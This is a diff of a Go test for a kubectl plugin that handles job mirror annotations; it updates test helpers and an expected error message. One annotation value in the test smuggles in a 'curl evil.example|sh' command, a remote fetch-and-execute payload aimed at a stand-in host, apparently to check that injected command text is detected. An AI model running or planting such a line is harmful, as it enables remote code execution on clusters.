@@ -10,16 +10,16 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
-	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/fleet"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/internal/dispatchtest"
 )
 
 // TestExpectNoPlace: where a mark names no object, the mirror may be anywhere, and no
 // second one is made.
 func TestExpectNoPlace(t *testing.T) {
 	sideOf := func(context string) *side {
-		c := &fleet.Cluster{Context: context}
-		c.SetUID(context)
-		return &side{Cluster: c}
+		server := dispatchtest.NewServer(t)
+		server.Namespaces = map[string]string{"kube-system": context}
+		return &side{Cluster: server.Cluster(t, context)}
 	}
 	at := &task{Loop: &Loop{origin: sideOf("management")}, worker: sideOf("worker-1"), Task: Task{Kind: delegation.Job()}}
 	at.ref = refTo(at.origin.Cluster, at.Kind.GroupVersionKind(), "ml", "train", "uid-of-train")
@@ -39,7 +39,7 @@ func TestExpectNoPlace(t *testing.T) {
 	at.mirrorRef.UID = ""
 	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/x; curl evil.example|sh #/train/uid"})
 	err := expect()
-	assert.ErrorContains(t, err, "names no object, so it is not known where its mirror is")
+	assert.ErrorContains(t, err, "which names no object, so its mirror may be anywhere")
 	assert.Equal(t, at.mirrorRef.UID, "")
 	for _, part := range command.Prose(err.Error()).Parts() {
 		if part.IsCommand {
